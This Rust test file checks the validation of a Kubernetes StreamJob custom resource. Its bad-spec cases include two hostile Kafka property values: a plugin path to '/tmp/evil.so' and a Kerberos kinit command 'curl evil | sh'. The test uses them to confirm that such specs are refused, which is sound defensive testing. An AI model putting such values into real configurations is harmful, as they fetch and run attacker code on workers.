//! The StreamJob API as a user meets it: the examples are valid, bad specs are refused with the
//! field named, both by `validate()` and by what the API server runs (the CRD's OpenAPI schema and
//! its CEL rules, evaluated here with `jsonschema` and `kube-cel`), and the committed CRD YAML is
//! exactly what the types generate.

use std::path::{Path, PathBuf};

use serde_json::{json, Value};
use weir_crds::{parse_stream_job, StreamJob};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn examples() -> Vec<(String, String)> {
    let mut out: Vec<_> = std::fs::read_dir(repo().join("examples"))
        .expect("examples/ exists")
        .map(|e| e.expect("readable entry").path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .map(|p| {
            let text = std::fs::read_to_string(&p).expect("readable example");
            (p.display().to_string(), text)
        })
        .collect();
    out.sort();
    out
}

/// The openAPIV3Schema of the generated CRD.
fn crd_schema() -> Value {
    use kube::CustomResourceExt;
    let crd = serde_json::to_value(StreamJob::crd()).expect("crd serialises");
    crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"].clone()
}

/// What the API server would say about an object: schema violations, duplicate keys in
/// `x-kubernetes-list-type: map` lists, duplicate items in `set` lists, and failed CEL rules.
fn api_server_errors(object: &Value) -> Vec<String> {
    let schema = crd_schema();
    let mut errors = Vec::new();
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    for e in validator.iter_errors(object) {
        errors.push(format!("schema {}: {}", e.instance_path(), e));
    }
    list_map_duplicates(&schema, object, "", &mut errors);
    if let Err(cel) = kube_cel::Validator::new().validate(&schema, object, None) {
        for e in cel.iter() {
            errors.push(format!("cel {}: {}", e.field_path, e.message));
        }
    }
    errors
}

fn list_map_duplicates(schema: &Value, object: &Value, path: &str, errors: &mut Vec<String>) {
    match object {
        Value::Object(map) => {
            for (k, v) in map {
                if let Some(s) = schema["properties"].get(k) {
                    list_map_duplicates(s, v, &format!("{path}.{k}"), errors);
                }
            }
        }
        Value::Array(items) => {
            if schema["x-kubernetes-list-type"] == "set" {
                for (i, item) in items.iter().enumerate() {
                    if items[..i].contains(item) {
                        errors.push(format!("list-set {path}: duplicate {item}"));
                    }
                }
            }
            if schema["x-kubernetes-list-type"] == "map" {
                let keys = schema["x-kubernetes-list-map-keys"].as_array().cloned();
                let mut seen = Vec::new();
                for item in items {
                    let key: Vec<Value> = keys
                        .iter()
                        .flatten()
                        .map(|k| item[k.as_str().unwrap_or_default()].clone())
                        .collect();
                    if seen.contains(&key) {
                        errors.push(format!("list-map {path}: duplicate {keys:?} {key:?}"));
                    }
                    seen.push(key);
                }
            }
            for item in items {
                list_map_duplicates(&schema["items"], item, path, errors);
            }
        }
        _ => {}
    }
}

fn base() -> Value {
    let (_, text) = examples()
        .into_iter()
        .find(|(p, _)| p.ends_with("payments-per-merchant.yaml"))
        .expect("payments example");
    serde_norway::from_str(&text).expect("yaml")
}

#[test]
fn every_example_is_valid_for_weir_and_for_the_api_server() {
    let examples = examples();
    assert!(examples.len() >= 3, "found {}", examples.len());
    for (path, text) in examples {
        let parsed = parse_stream_job(&text).unwrap_or_else(|e| panic!("{path}: {e}"));
        assert!(
            parsed.unknown_fields.is_empty(),
            "{path}: unknown fields {:?}",
            parsed.unknown_fields
        );
        parsed
            .job
            .spec
            .validate()
            .unwrap_or_else(|e| panic!("{path}: {e}"));
        let object: Value = serde_norway::from_str(&text).expect("yaml");
        let errors = api_server_errors(&object);
        assert!(errors.is_empty(), "{path}: {errors:#?}");
    }
}

/// One bad spec per rule: the mutation, and the field `validate()` must name.
type Mutation = Box<dyn Fn(&mut Value)>;

fn bad_specs() -> Vec<(&'static str, Mutation, &'static str)> {
    fn agg(v: &mut Value, i: usize) -> &mut Value {
        &mut v["spec"]["aggregations"][i]
    }
    vec![
        (
            "a source property that loads code",
            Box::new(|v: &mut Value| {
                v["spec"]["source"]["kafka"]["properties"] =
                    json!({"plugin.library.paths": "/tmp/evil.so"})
            }),
            "spec.source.kafka.properties",
        ),
        (
            "a source property weir sets itself",
            Box::new(|v: &mut Value| {
                v["spec"]["source"]["kafka"]["properties"] = json!({"enable.auto.commit": "true"})
            }),
            "spec.source.kafka.properties",
        ),
        (
            "a sink property that runs a command",
            Box::new(|v: &mut Value| {
                v["spec"]["sink"]["kafka"]["properties"] =
                    json!({"sasl.kerberos.kinit.cmd": "curl evil | sh"})
            }),
            "spec.sink.kafka.properties",
        ),
        (
            "a sink property weir sets itself",
            Box::new(|v: &mut Value| {
                v["spec"]["sink"]["kafka"]["properties"] = json!({"enable.idempotence": "false"})
            }),
            "spec.sink.kafka.properties",
        ),
        (
            "a worker variable of the operator's",
            Box::new(|v: &mut Value| {
                v["spec"]["worker"] =
                    json!({"env": [{"name": "WEIR_CHECKPOINT_DIR", "value": "/tmp"}]})
            }),
            "spec.worker.env",
        ),
        (
            "a worker variable set twice",
            Box::new(|v: &mut Value| {
                v["spec"]["worker"] =
                    json!({"env": [{"name": "TZ", "value": "UTC"}, {"name": "TZ", "value": "CET"}]})
            }),
            "spec.worker.env",
        ),
        (
            "hopping window without slide",
            Box::new(|v: &mut Value| v["spec"]["window"]["type"] = json!("hopping")),
            "spec.window.slide",
        ),
        (
            "slide on a tumbling window",
            Box::new(|v: &mut Value| v["spec"]["window"]["slide"] = json!("10s")),
            "spec.window.slide",
        ),
        (
            "slide longer than size",
            Box::new(|v: &mut Value| {
                v["spec"]["window"]["type"] = json!("hopping");
                v["spec"]["window"]["slide"] = json!("2m");
            }),
            "spec.window.slide",
        ),
        (
            "gap on a tumbling window",
            Box::new(|v: &mut Value| v["spec"]["window"]["gap"] = json!("30s")),
            "spec.window.gap",
        ),
        (
            "session window without gap",
            Box::new(|v: &mut Value| {
                v["spec"]["window"] = json!({"type": "session"});
            }),
            "spec.window.gap",
        ),
        (
            "session window with a size",
            Box::new(|v: &mut Value| {
                v["spec"]["window"] = json!({"type": "session", "gap": "30s", "size": "1m"});
            }),
            "spec.window.size",
        ),
        (
            "session window over groups that span partitions",
            Box::new(|v: &mut Value| {
                v["spec"]["window"] = json!({"type": "session", "gap": "30s"});
                v["spec"]["groupBy"] = json!(["merchant"]);
            }),
            "spec.repartition.coPartitioned",
        ),
        (
            "repartition topic without partitions",
            Box::new(|v: &mut Value| v["spec"]["repartition"] = json!({"partitions": 0})),
            "spec.repartition.partitions",
        ),
        (
            "tumbling window without size",
            Box::new(|v: &mut Value| v["spec"]["window"] = json!({"type": "tumbling"})),
            "spec.window.size",
        ),
        (
            "zero window size",
            Box::new(|v: &mut Value| v["spec"]["window"]["size"] = json!("0s")),
            "spec.window.size",
        ),
        (
            "duration in days",
            Box::new(|v: &mut Value| v["spec"]["window"]["size"] = json!("1d")),
            "spec.window.size",
        ),
        (
            "window longer than a year",
            Box::new(|v: &mut Value| v["spec"]["window"]["size"] = json!("8761h")),
            "spec.window.size",
        ),
        (
            "zero idle timeout",
            Box::new(|v: &mut Value| v["spec"]["window"]["idleTimeout"] = json!("0ms")),
            "spec.window.idleTimeout",
        ),
        (
            "sum without a field",
            Box::new(|v: &mut Value| {
                agg(v, 1).as_object_mut().map(|o| o.remove("field"));
            }),
            "spec.aggregations[1].field",
        ),
        (
            "count with a field",
            Box::new(|v: &mut Value| agg(v, 0)["field"] = json!("amount")),
            "spec.aggregations[0].field",
        ),
        (
            "percentile without quantile",
            Box::new(|v: &mut Value| {
                agg(v, 3).as_object_mut().map(|o| o.remove("quantile"));
            }),
            "spec.aggregations[3].quantile",
        ),
        (
            "quantile of 1",
            Box::new(|v: &mut Value| agg(v, 3)["quantile"] = json!(1.0)),
            "spec.aggregations[3].quantile",
        ),
        (
            "quantile of 0",
            Box::new(|v: &mut Value| agg(v, 3)["quantile"] = json!(0.0)),
            "spec.aggregations[3].quantile",
        ),
        (
            "quantile on a mean",
            Box::new(|v: &mut Value| agg(v, 2)["quantile"] = json!(0.5)),
            "spec.aggregations[2].quantile",
        ),
        (
            "duplicate output names",
            Box::new(|v: &mut Value| agg(v, 1)["name"] = json!("payments")),
            "spec.aggregations[1].name",
        ),
        (
            "output name with a space",
            Box::new(|v: &mut Value| agg(v, 1)["name"] = json!("total amount")),
            "spec.aggregations[1].name",
        ),
        (
            "no aggregations",
            Box::new(|v: &mut Value| v["spec"]["aggregations"] = json!([])),
            "spec.aggregations",
        ),
        (
            "minReplicas above maxReplicas",
            Box::new(|v: &mut Value| {
                v["spec"]["autoscaling"] = json!({"minReplicas": 4, "maxReplicas": 2});
            }),
            "spec.autoscaling.minReplicas",
        ),
        (
            "zero parallelism",
            Box::new(|v: &mut Value| v["spec"]["parallelism"] = json!(0)),
            "spec.parallelism",
        ),
        (
            "sink topic equal to the source topic",
            Box::new(|v: &mut Value| v["spec"]["sink"]["kafka"]["topic"] = json!("payments")),
            "spec.sink.kafka.topic",
        ),
        (
            "dead-letter topic equal to the source topic",
            Box::new(|v: &mut Value| {
                v["spec"]["deadLetter"]["kafka"]["topic"] = json!("payments");
            }),
            "spec.deadLetter.kafka.topic",
        ),
        (
            "topic name with a slash",
            Box::new(|v: &mut Value| {
                v["spec"]["source"]["kafka"]["topic"] = json!("pay/ments");
            }),
            "spec.source.kafka.topic",
        ),
        (
            "field path with an empty segment",
            Box::new(|v: &mut Value| v["spec"]["groupBy"] = json!(["merchant..id"])),
            "spec.groupBy[0]",
        ),
        (
            "groupByKey with a group field named key",
            Box::new(|v: &mut Value| {
                v["spec"]["groupByKey"] = json!(true);
                v["spec"]["groupBy"] = json!(["key"]);
            }),
            "spec.groupBy",
        ),
        (
            "two checkpoint stores",
            Box::new(|v: &mut Value| {
                v["spec"]["checkpoint"]["store"]["objectStore"] = json!({"url": "s3://b/p"});
            }),
            "spec.checkpoint.store",
        ),
        (
            "object store URL that is not a store",
            Box::new(|v: &mut Value| {
                v["spec"]["checkpoint"]["store"] =
                    json!({"objectStore": {"url": "http://example/bucket"}});
            }),
            "spec.checkpoint.store.objectStore.url",
        ),
        (
            "a group field listed twice",
            Box::new(|v: &mut Value| v["spec"]["groupBy"] = json!(["merchant", "merchant"])),
            "spec.groupBy[1]",
        ),
        (
            "hopping windows with more than 10000 windows per record",
            Box::new(|v: &mut Value| {
                v["spec"]["window"]["type"] = json!("hopping");
                v["spec"]["window"]["size"] = json!("1h");
                v["spec"]["window"]["slide"] = json!("1ms");
            }),
            "spec.window.slide",
        ),
        (
            "hopping windows one window over the cap",
            Box::new(|v: &mut Value| {
                v["spec"]["window"]["type"] = json!("hopping");
                v["spec"]["window"]["size"] = json!("10001s");
                v["spec"]["window"]["slide"] = json!("1s");
            }),
            "spec.window.slide",
        ),
        (
            "zero maxAheadOfClock",
            Box::new(|v: &mut Value| v["spec"]["window"]["maxAheadOfClock"] = json!("0s")),
            "spec.window.maxAheadOfClock",
        ),
        (
            "maxAheadOfPartition over a year",
            Box::new(|v: &mut Value| {
                v["spec"]["window"]["maxAheadOfPartition"] = json!("8761h");
            }),
            "spec.window.maxAheadOfPartition",
        ),
        (
            "a file:// object store",
            Box::new(|v: &mut Value| {
                v["spec"]["checkpoint"]["store"] =
                    json!({"objectStore": {"url": "file:///var/lib/weir"}});
            }),
            "spec.checkpoint.store.objectStore.url",
        ),
        (
            "zero checkpoint interval",
            Box::new(|v: &mut Value| v["spec"]["checkpoint"]["interval"] = json!("0s")),
            "spec.checkpoint.interval",
        ),
    ]
}

#[test]
fn each_bad_spec_is_refused_by_validate_and_by_the_api_server_naming_the_field() {
    let cases = bad_specs();
    assert!(cases.len() >= 12);
    for (what, mutate, field) in cases {
        let mut object = base();
        mutate(&mut object);

        let text = serde_json::to_string(&object).expect("json");
        let job = parse_stream_job(&text).unwrap_or_else(|e| panic!("{what}: {e}"));
        let errors = match job.job.spec.validate() {
            Ok(()) => panic!("{what}: validate() accepted it"),
            Err(e) => e.0,
        };
        assert!(
            errors.iter().any(|e| e.path == field),
            "{what}: expected an error at {field}, got {errors:#?}"
        );
        for e in &errors {
            assert!(!e.message.is_empty(), "{what}: empty message at {}", e.path);
        }

        let server = api_server_errors(&object);
        let leaf = field.rsplit('.').next().unwrap_or(field);
        let leaf = leaf.split('[').next().unwrap_or(leaf);
        assert!(
            server.iter().any(|e| e.contains(leaf)),
            "{what}: the CRD schema and CEL rules did not refuse {leaf}: {server:#?}"
        );
        if std::env::var_os("WEIR_SHOW_SERVER_ERRORS").is_some() {
            eprintln!("{what}: {server:?}");
        }
    }
}

/// The schema errors `jsonschema` finds (the API server's schema check), as weir paths.
fn schema_error_paths(object: &Value) -> Vec<String> {
    let schema = crd_schema();
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    validator
        .iter_errors(object)
        .map(|e| {
            let mut path = String::new();
            for segment in e.instance_path().to_string().split('/').skip(1) {
                if segment.parse::<usize>().is_ok() {
                    path.push_str(&format!("[{segment}]"));
                } else {
                    if !path.is_empty() {
                        path.push('.');
                    }
                    path.push_str(segment);
                }
            }
            path
        })
        .collect()
}

fn related(a: &str, b: &str) -> bool {
    let under = |p: &str, base: &str| {
        p == base
            || p.strip_prefix(base)
                .is_some_and(|r| r.starts_with('.') || r.starts_with('['))
    };
    under(a, b) || under(b, a)
}

/// Values of the wrong type, each refused by the CRD schema.
fn mistyped_specs() -> Vec<(&'static str, Mutation)> {
    vec![
        (
            "parallelism as a word",
            Box::new(|v: &mut Value| v["spec"]["parallelism"] = json!("three")),
        ),
        (
            "parallelism beyond 32 bits",
            Box::new(|v: &mut Value| v["spec"]["parallelism"] = json!(5_000_000_000_i64)),
        ),
        (
            "a window size as a number",
            Box::new(|v: &mut Value| v["spec"]["window"]["size"] = json!(60)),
        ),
        (
            "an unknown window type",
            Box::new(|v: &mut Value| v["spec"]["window"]["type"] = json!("sliding")),
        ),
        (
            "an unknown aggregation",
            Box::new(|v: &mut Value| v["spec"]["aggregations"][2]["fn"] = json!("median")),
        ),
        (
            "groupBy as a string",
            Box::new(|v: &mut Value| v["spec"]["groupBy"] = json!("merchant")),
        ),
        (
            "a quantile as a string",
            Box::new(|v: &mut Value| v["spec"]["aggregations"][3]["quantile"] = json!("p99")),
        ),
        (
            "a property that is not a string",
            Box::new(|v: &mut Value| {
                v["spec"]["source"]["kafka"]["properties"] = json!({"fetch.max.bytes": {"a": 1}})
            }),
        ),
        (
            "a source without a topic",
            Box::new(|v: &mut Value| {
                v["spec"]["source"]["kafka"]
                    .as_object_mut()
                    .map(|k| k.remove("topic"));
            }),
        ),
        (
            "an empty bootstrap list",
            Box::new(|v: &mut Value| v["spec"]["source"]["kafka"]["bootstrapServers"] = json!("")),
        ),
        (
            "seventeen group fields",
            Box::new(|v: &mut Value| {
                v["spec"]["groupBy"] = json!((0..17).map(|i| format!("f{i}")).collect::<Vec<_>>())
            }),
        ),
    ]
}

#[test]
fn validate_object_names_every_field_the_api_server_refuses() {
    let cases = bad_specs()
        .into_iter()
        .map(|(what, mutate, _)| (what, mutate))
        .chain(mistyped_specs());
    for (what, mutate) in cases {
        let mut object = base();
        mutate(&mut object);
        let errors = weir_crds::documents::validate_object(&object)
            .expect_err(what)
            .into_iter()
            .map(|e| e.path)
            .collect::<Vec<_>>();
        for path in schema_error_paths(&object) {
            assert!(
                errors.iter().any(|e| related(e, &path)),
                "{what}: the schema refuses {path}, validate_object said {errors:?}"
            );
        }
    }
    // And the mistyped ones are refused by the schema, not only by weir (this test would pass
    // vacuously otherwise).
    for (what, mutate) in mistyped_specs() {
        let mut object = base();
        mutate(&mut object);
        assert!(!schema_error_paths(&object).is_empty(), "{what}");
    }
}

#[test]
fn validate_object_names_the_field_of_each_bad_spec_as_validate_does() {
    for (what, mutate, field) in bad_specs() {
        let mut object = base();
        mutate(&mut object);
        let errors = weir_crds::documents::validate_object(&object).expect_err(what);
        assert!(
            errors.iter().any(|e| e.path == field),
            "{what}: expected an error at {field}, got {errors:#?}"
        );
    }
}

#[test]
fn every_example_is_one_valid_document() {
    for (path, text) in examples() {
        let docs = weir_crds::validate_documents(&text);
        assert_eq!(docs.len(), 1, "{path}");
        assert_eq!(docs[0].outcome, weir_crds::Outcome::Valid, "{path}");
    }
}

#[test]
fn validate_reports_every_problem_at_once() {
    let mut object = base();
    object["spec"]["window"]["slide"] = json!("10s");
    object["spec"]["aggregations"][3]["quantile"] = json!(2.0);
    object["spec"]["parallelism"] = json!(0);
    let job = parse_stream_job(&object.to_string()).expect("parses");
    let errors = job.job.spec.validate().expect_err("invalid");
    let paths: Vec<_> = errors.0.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "spec.window.slide",
            "spec.aggregations[3].quantile",
            "spec.parallelism"
        ]
    );
    assert!(errors
        .to_string()
        .contains("spec.window.slide: is only used by hopping windows"));
}

#[test]
fn unparseable_values_are_reported_with_their_path() {
    let mut object = base();
    object["spec"]["aggregations"][2]["fn"] = json!("median");
    let err = parse_stream_job(&object.to_string()).expect_err("unknown fn");
    assert_eq!(err.path, "spec.aggregations[2].fn");
    assert!(err.message.contains("median"), "{err}");

    let err = parse_stream_job("apiVersion: v1\nkind: ConfigMap\n").expect_err("not a job");
    assert!(err.message.contains("StreamJob"), "{err}");

    let err = parse_stream_job("spec: [unclosed").expect_err("not yaml");
    assert!(err.message.contains("YAML"), "{err}");
}

#[test]
fn unknown_fields_are_reported_not_silently_dropped() {
    let mut object = base();
    object["spec"]["window"]["allowedLatness"] = json!("10s");
    let parsed = parse_stream_job(&object.to_string()).expect("parses");
    assert_eq!(parsed.unknown_fields, ["spec.window.allowedLatness"]);
}

#[test]
fn the_largest_hopping_ratio_and_new_fields_are_accepted_by_both() {
    let mut object = base();
    object["spec"]["window"] = json!({
        "type": "hopping", "size": "10000s", "slide": "1s",
        "maxAheadOfClock": "1h", "maxAheadOfPartition": "8760h",
    });
    let job = parse_stream_job(&object.to_string()).expect("parses");
    job.job.spec.validate().expect("valid");
    assert_eq!(api_server_errors(&object), Vec::<String>::new());
    // Sub-second slides are compared exactly too.
    object["spec"]["window"] = json!({"type": "hopping", "size": "10s", "slide": "1ms"});
    let job = parse_stream_job(&object.to_string()).expect("parses");
    job.job.spec.validate().expect("valid");
    assert_eq!(api_server_errors(&object), Vec::<String>::new());
}

#[test]
fn unknown_fields_come_with_a_suggestion_and_with_the_other_problems() {
    let mut object = base();
    object["spec"]["window"]["allowedLatness"] = json!("10s");
    object["spec"]["aggregations"][1]["feild"] = json!("amount");
    object["spec"]["deadLetter"]["kafka"]["topik"] = json!("x");
    object["spec"]["parallelism"] = json!(0);
    let problems = weir_crds::check_stream_job(&object.to_string()).expect_err("bad");
    assert_eq!(
        problems,
        [
            "spec.aggregations[1].feild: unknown field; did you mean field?",
            "spec.deadLetter.kafka.topik: unknown field; did you mean topic?",
            "spec.window.allowedLatness: unknown field; did you mean allowedLateness?",
            "spec.parallelism: must be between 1 and 1024, not 0",
        ]
    );

    // A typo in a required field: the typo is named, then what is missing.
    let mut object = base();
    let window = object["spec"]["window"].take();
    object["spec"]
        .as_object_mut()
        .expect("object")
        .remove("window");
    object["spec"]["windw"] = window;
    let problems = weir_crds::check_stream_job(&object.to_string()).expect_err("bad");
    assert_eq!(problems.len(), 2, "{problems:?}");
    assert_eq!(
        problems[0],
        "spec.windw: unknown field; did you mean window?"
    );
    assert!(
        problems[1].contains("missing field `window`"),
        "{problems:?}"
    );
}

#[test]
fn committed_crd_yaml_matches_the_generated_one() {
    let committed = std::fs::read_to_string(repo().join("crds/streamjob.yaml"))
        .expect("crds/streamjob.yaml is committed");
    let generated = weir_crds::crd_yaml().expect("serialises");
    assert!(
        committed == generated,
        "crds/streamjob.yaml is out of date: run `cargo run -p weir-crds --bin crdgen`"
    );
}

#[test]
fn every_field_is_documented_for_kubectl_explain() {
    fn walk(schema: &Value, path: &str, missing: &mut Vec<String>) {
        if let Some(props) = schema["properties"].as_object() {
            for (name, s) in props {
                let p = format!("{path}.{name}");
                let described = s["description"]
                    .as_str()
                    .is_some_and(|d| !d.trim().is_empty());
                if !described {
                    missing.push(p.clone());
                }
                walk(s, &p, missing);
            }
        }
        if schema["items"].is_object() {
            walk(&schema["items"], &format!("{path}[]"), missing);
        }
    }
    let schema = crd_schema();
    let mut missing = Vec::new();
    walk(&schema["properties"]["spec"], "spec", &mut missing);
    walk(&schema["properties"]["status"], "status", &mut missing);
    assert!(
        missing.is_empty(),
        "fields without a description: {missing:#?}"
    );
}

#[test]
fn crd_serves_status_and_scale_and_prints_useful_columns() {
    use kube::CustomResourceExt;
    let crd = serde_json::to_value(StreamJob::crd()).expect("crd");
    let version = &crd["spec"]["versions"][0];
    assert_eq!(crd["spec"]["names"]["shortNames"], json!(["sj"]));
    assert_eq!(crd["spec"]["scope"], "Namespaced");
    assert_eq!(version["subresources"]["status"], json!({}));
    assert_eq!(
        version["subresources"]["scale"],
        json!({
            "specReplicasPath": ".spec.parallelism",
            "statusReplicasPath": ".status.replicas",
            "labelSelectorPath": ".status.selector"
        })
    );
    let columns: Vec<_> = version["additionalPrinterColumns"]
        .as_array()
        .expect("columns")
        .iter()
        .map(|c| c["name"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(
        columns,
        ["Topic", "Window", "Replicas", "Lag", "Ready", "Age"]
    );
}
